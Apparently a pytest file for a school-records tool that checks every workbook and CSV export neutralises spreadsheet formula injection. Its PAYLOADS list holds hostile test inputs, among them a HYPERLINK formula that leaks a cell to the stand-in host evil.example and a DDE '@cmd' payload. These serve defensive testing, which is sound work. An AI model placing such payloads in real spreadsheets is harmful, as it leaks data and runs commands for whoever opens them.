"""Formula injection on every export path: uploaded text never runs as a formula where it ends up.

Pupils, subjects, class codes, project titles and activities are all written by whoever made the
upload. Every way natbacc hands data back (records workbook, pseudonymised workbook, record cards,
templates, the subject-mapping CSV) must show such text as text, exactly as written.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from natbacc.analysis import analyse
from natbacc.export import build_workbook, template_workbook
from natbacc.formulas import csv_bytes, is_formula_like, neutralise, restore
from natbacc.io import Source, import_files
from natbacc.model import TABLE_KINDS
from natbacc.sample import AS_OF
from natbacc.subjects import SubjectMap
from tests.helpers import csv_bytes as table_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0", "＝1+1"]
KEY = b"test-key-0123456789abcdef-0123456789"


def _hostile_school():
    """A small school where every free-text field an upload controls holds a formula."""
    pupils = [["Adno", "Name", "Year", "Reg Group"]] + [
        [f"{i:03d}", f"{p}", "10", "10A"] for i, p in enumerate(PAYLOADS, start=1)
    ]
    classes = [["Adno", "Class", "Subject", "Periods"]]
    project = [["Adno", "Project Title", "Stage", "Hours", "Supervisor"]]
    development = [["Adno", "Activity", "Category", "Hours", "Date"]]
    for i, p in enumerate(PAYLOADS, start=1):
        classes.append([f"{i:03d}", f"10A/{p}", p, "4"])
        project.append([f"{i:03d}", p, "research", "5", p])
        development.append([f"{i:03d}", p, "Creative", "3", "01/10/2026"])
    files = {"pupils.csv": pupils, "classes.csv": classes, "project.csv": project, "development.csv": development}
    return import_files([Source(name, table_csv(rows)) for name, rows in files.items()])


def _assert_no_formulas(data: bytes, label: str) -> int:
    """No cell is a formula; formula-like text is a quote-prefixed string. Returns how many such cells."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    quoted = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{label}: {sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, f"{label}: {sheet.title}!{cell.coordinate} {cell.value!r}"
                    quoted += 1
    return quoted


def test_every_workbook_natbacc_writes_keeps_formulas_as_text():
    """Records (full, pseudonymised, with record cards) and the templates: text stays text."""
    result = _hostile_school()
    assert not result.blocking, [(i.code, i.message) for i in result.issues]
    analysis = analyse(result.tables, as_of=AS_OF)
    full = build_workbook(analysis, result.issues, record_cards="10A", key=KEY)
    assert _assert_no_formulas(full, "records") >= 4 * len(PAYLOADS)  # names, subjects, titles, activities
    names = [c.value for c in openpyxl.load_workbook(io.BytesIO(full))["Students"]["B"]][1:]
    assert sorted(names) == sorted(PAYLOADS)  # shown exactly as written
    _assert_no_formulas(build_workbook(analysis, result.issues, pseudonymise=True, key=KEY), "pseudonymised")
    for kind in TABLE_KINDS:
        _assert_no_formulas(template_workbook(kind), f"template {kind}")


def test_the_mapping_csv_is_safe_in_excel_and_reads_back_exactly():
    """The subject-mapping download neutralises formulas, keeps accents, and loads back to the same mapping."""
    decisions = pd.DataFrame(
        {"label": [*PAYLOADS, "Études"], "subject": [*PAYLOADS, "Études"], "area": ["arts"] * 6},
        dtype="str",
    )
    data = csv_bytes(decisions)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["label", "subject", "area"]
    for row in rows[1:]:
        assert not any(is_formula_like(cell) for cell in row), row
    assert rows[-1] == ["Études", "Études", "arts"]

    loaded = SubjectMap.default().with_overrides(pd.read_csv(io.BytesIO(data), dtype="str"))
    direct = SubjectMap.default().with_overrides(decisions)
    assert loaded.overrides == direct.overrides
    assert loaded.resolve(PAYLOADS[0])[:2] == (PAYLOADS[0], "arts")


@given(st.text(max_size=20))
def test_neutralising_is_undone_exactly_and_never_leaves_a_formula(text):
    """For any text: the CSV form never starts a formula, and reading it back gives the original."""
    safe = neutralise(pd.Series([text], dtype="str")).iloc[0]
    assert not is_formula_like(safe)
    assert restore(safe) == text
